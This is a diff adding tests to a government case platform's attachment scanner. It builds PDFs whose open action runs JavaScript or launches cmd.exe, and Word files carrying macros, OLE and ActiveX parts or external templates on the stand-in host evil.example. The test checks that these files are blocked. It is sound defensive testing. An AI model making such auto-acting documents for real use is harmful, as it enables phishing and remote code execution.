@@ -5,10 +5,17 @@ import zipfile
 
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
+from docx import Document
 from PIL import Image
+from pypdf import PdfWriter
+from pypdf.generic import DictionaryObject, NameObject, TextStringObject
+from reportlab.pdfgen.canvas import Canvas
 
 from govplatform.audit.models import Entry
 from govplatform.cases.attachments import LARGEST, SentFile, open_attachment, read_files, scan_files
+from govplatform.cases.codes import new_nonce
+from govplatform.cases.intake import submit_case
+from govplatform.cases.letters import read_letter
 from govplatform.cases.models import Attachment, Case
 from govplatform.consequences.models import Consequence
 from govplatform.consequences.running import run_row
@@ -95,6 +102,73 @@ def test_what_cannot_be_taken_comes_back_with_its_name(send):
     assert send({str(n): b"x" * LARGEST for n in range(5)}).status_code == 413
     assert send.client.post(WRITE, "--x", content_type="multipart/form-data; boundary=y").status_code in (413, 422)
     assert not Case.objects.exists()
+
+
+def pdf(action=""):
+    """A page with words, and what is to be done when it is opened."""
+    canvas = Canvas(stream := io.BytesIO())
+    canvas.drawString(72, 720, "What the lamp looks like")
+    canvas.save()
+    writer = PdfWriter(clone_from=io.BytesIO(stream.getvalue()))
+    if action:
+        named = {"script": ("/JavaScript", "/JS", "app.alert(1)"), "launch": ("/Launch", "/F", "cmd.exe")}[action]
+        done = {"/S": NameObject(named[0]), named[1]: TextStringObject(named[2])}
+        opened = DictionaryObject({NameObject(name): value for name, value in done.items()})
+        writer.root_object[NameObject("/OpenAction")] = writer._add_object(opened)
+    writer.write(made := io.BytesIO())
+    return made.getvalue()
+
+
+def word(*parts, relation=""):
+    """A document of Word, with parts and a relation besides."""
+    document = Document()
+    document.add_paragraph("路灯在东门。")
+    document.save(stream := io.BytesIO())
+    with zipfile.ZipFile(stream, "a") as packed:
+        for name in parts:
+            packed.writestr(name, b"x" * 64)
+        if relation:
+            kind, target = relation.split(" ", 1)
+            office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+            packed.writestr(
+                "word/_rels/settings.xml.rels",
+                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
+                f'Id="r1" Type="{office}/{kind}" Target="{target}" TargetMode="External"/></Relationships>',
+            )
+    return stream.getvalue()
+
+
+def test_what_acts_when_it_is_opened_is_given_to_nobody(desk, console):
+    acting = {
+        "1.pdf": pdf("script"), "2.pdf": pdf("launch"), "3.docx": word("word/vbaProject.bin"),
+        "4.docx": word("word/embeddings/oleObject1.bin"), "5.docx": word("word/activeX/activeX1.xml"),
+        "6.docx": word(relation="attachedTemplate http://evil.example/a.dotm"),
+        "7.docx": word(relation="attachedTemplate file://evil.example/share/a.dotm"),
+        "9.docx": word(relation="frame file:////evil.example/share/a.htm"),
+        "8.docx": word(relation="oleObject \\\\evil.example\\share\\a.xls"),
+    }  # fmt: skip
+    harmless = {
+        "a.pdf": pdf(), "b.docx": word(), "c.docx": word("word/embeddings/Sheet1.xlsx"),
+        "f.docx": word(relation="attachedTemplate letter.dotx"),
+        "d.docx": word(relation="hyperlink http://example.gov.cn/"),
+        "e.docx": word(relation="attachedTemplate file:///C:\\Users\\a\\letter.dotx"),
+    }  # fmt: skip
+    for given in (acting, harmless):
+        items = list(given.items())
+        for first in range(0, len(items), 3):
+            files = read_files([SentFile(name, content) for name, content in items[first : first + 3]])
+            taken = submit_case(
+                read_letter("help", "路灯", TEXT, may_publish=False), desk, nonce=new_nonce(), files=files
+            )
+            scan_files(taken.case.pk)
+    states = dict(Attachment.objects.values_list("name", "state"))
+    assert {name for name, state in states.items() if state == "blocked"} == set(acting)
+    assert {name for name, state in states.items() if state == "checked"} == set(harmless)
+    case = Attachment.objects.get(name="1.pdf").case
+    shown = console("alpha_clerk", "alpha").get(f"/admin/cases/{case.pk}/").content.decode()
+    assert "打开时会自动执行的内容（整个文件）" in shown and "不能下载" in shown
+    with pytest.raises(Refused, match="有害"):
+        open_attachment(case, 1, desk, acting_user=person("alpha_clerk"))
 
 
 def test_a_bomb_stays_where_it_is(send, console):
